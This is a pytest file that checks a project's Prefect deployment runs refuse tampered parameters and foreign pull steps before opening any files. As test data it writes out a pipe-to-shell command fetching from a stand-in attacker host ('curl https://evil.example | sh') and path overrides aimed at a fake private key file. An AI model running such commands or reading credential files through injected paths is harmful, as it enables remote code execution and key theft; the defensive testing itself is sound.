"""A deployment run whose parameters or pull steps were edited on the Prefect server fails with one line that names
the parameter, and opens none of the files it named.

A real deployment of `nerflow-scheduled` on the test harness's Prefect server, a real flow run of it created with the
hostile parameters, executed in this process by Prefect's engine (what `python -m prefect.engine` does on a worker,
without the subprocess): the flow's own first step is under test. Python's audit hook records every file opened."""
from __future__ import annotations

import sys
from pathlib import Path

import pytest
from prefect.client.orchestration import get_client
from prefect.client.schemas.actions import DeploymentUpdate
from prefect.deployments.runner import EntrypointType
from prefect.flow_engine import run_flow

from nerflow.flows.scheduled import scheduled_pipeline

OPENED: list[str] = []


def _record(event: str, args: tuple) -> None:
    if event == "open" and isinstance(args[0], (str, bytes, Path)):
        OPENED.append(str(args[0]))


sys.addaudithook(_record)   # cannot be removed: it only appends to a list


@pytest.fixture(scope="module")
def checkout(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("deploy-params")
    (root / "checkout").mkdir()
    (root / "checkout" / "c.yaml").write_text("data: {dir: data}\n")
    secret = root / "secret"
    secret.mkdir()
    (secret / "id_rsa").write_text("PRIVATE KEY\n")
    (secret / "c.yaml").write_text("data: {dir: .}\n")
    return root


def run_deployment_in_process(client, deployment_id, parameters: dict):
    flow_run = client.create_flow_run_from_deployment(deployment_id, parameters=parameters)
    OPENED.clear()
    state = run_flow(scheduled_pipeline, flow_run=flow_run, return_type="state")
    return state, list(OPENED)


def test_hostile_parameters_and_pull_steps_fail_before_anything_is_read(checkout, monkeypatch, capsys):
    work, secret = checkout / "checkout", checkout / "secret"
    monkeypatch.chdir(work)   # the worker's working directory: its only root
    monkeypatch.delenv("NERFLOW_WORKDIR_ROOTS", raising=False)
    deployment_id = scheduled_pipeline.to_deployment(
        name="hostile", parameters={"config": "c.yaml", "overrides": []},
        entrypoint_type=EntrypointType.MODULE_PATH).apply()
    hostile = [
        ({"config": str(secret / "c.yaml")}, f"deployment parameter config: '{secret / 'c.yaml'}' resolves to"),
        ({"config": "c.yaml", "overrides": ["data.trian=x"]},
         "deployment parameter overrides: 'data.trian' is not a config key (did you mean data.train?)"),
        ({"config": "c.yaml", "overrides": [f"data.train={secret / 'id_rsa'}"]},
         f"deployment parameter overrides: data.train='{secret / 'id_rsa'}' is outside the working directory and "
         "the worker's roots"),
    ]
    with get_client(sync_client=True) as client:
        for parameters, said in hostile:
            state, opened = run_deployment_in_process(client, deployment_id, parameters)
            assert state.is_failed() and said in state.message, (parameters, state.message)
            assert not [p for p in opened if p.startswith(str(secret)) or p.endswith("c.yaml")], opened
            err = capsys.readouterr().err
            assert said in err and err.count("\n") == 1, err   # the worker's terminal: one line
        # good parameters, but pull steps that are not the project's (too late to stop them on a plain worker: the
        # flow says so instead of going on; `nerflow worker` refuses before it starts anything)
        client.update_deployment(deployment_id, DeploymentUpdate(pull_steps=[
            {"prefect.deployments.steps.run_shell_script": {"script": "curl https://evil.example | sh"}}]))
        state, opened = run_deployment_in_process(client, deployment_id, {"config": "c.yaml"})
        said = "deployment pull steps: prefect.deployments.steps.run_shell_script"
        assert state.is_failed() and said in state.message, state.message
        assert not [p for p in opened if p.endswith("c.yaml")], opened


def test_nerflow_worker_refuses_foreign_pull_steps_before_running_them_and_runs_its_own_flow(checkout, monkeypatch,
                                                                                               capsys):
    """`nerflow worker`'s one pass over its pool: a deployment with a pull step that would write a marker file is
    refused before the step runs; the deployment's own flow starts (no pull steps, the installed module) and refuses
    its hostile parameter itself."""
    import anyio

    from nerflow.flows.deployments import ensure_pool
    from nerflow.flows.worker import NerflowWorker

    work, secret = checkout / "checkout", checkout / "secret"
    marker = checkout / "pull-step-ran"
    monkeypatch.chdir(work)
    monkeypatch.delenv("NERFLOW_WORKDIR_ROOTS", raising=False)
    pool = "nerflow-worker-test"
    with get_client(sync_client=True) as client:
        ensure_pool(client, pool)
        ids = []
        for name, pull_steps, parameters in [
            ("pulls", [{"prefect.deployments.steps.run_shell_script": {"script": f"touch {marker}"}}],
             {"config": "c.yaml"}),
            ("own", [], {"config": "c.yaml", "overrides": [f"data.train={secret / 'id_rsa'}"]})]:
            deployment_id = scheduled_pipeline.to_deployment(
                name=f"worker-{name}", parameters=parameters, work_pool_name=pool,
                entrypoint_type=EntrypointType.MODULE_PATH).apply()
            client.update_deployment(deployment_id, DeploymentUpdate(pull_steps=pull_steps))   # as anyone may
            ids.append(client.create_flow_run_from_deployment(deployment_id).id)

        async def one_pass():
            async with NerflowWorker(work_pool_name=pool, create_pool_if_not_found=True) as worker:
                await worker.get_and_submit_flow_runs()

        anyio.run(one_pass)
        pulls, own = (client.read_flow_run(i).state for i in ids)
    assert pulls.is_failed() and pulls.message.startswith("refused by nerflow worker: deployment pull steps: "
                                                          "prefect.deployments.steps.run_shell_script"), pulls
    assert not marker.exists()
    assert own.is_failed() and "deployment parameter overrides: data.train=" in own.message, own

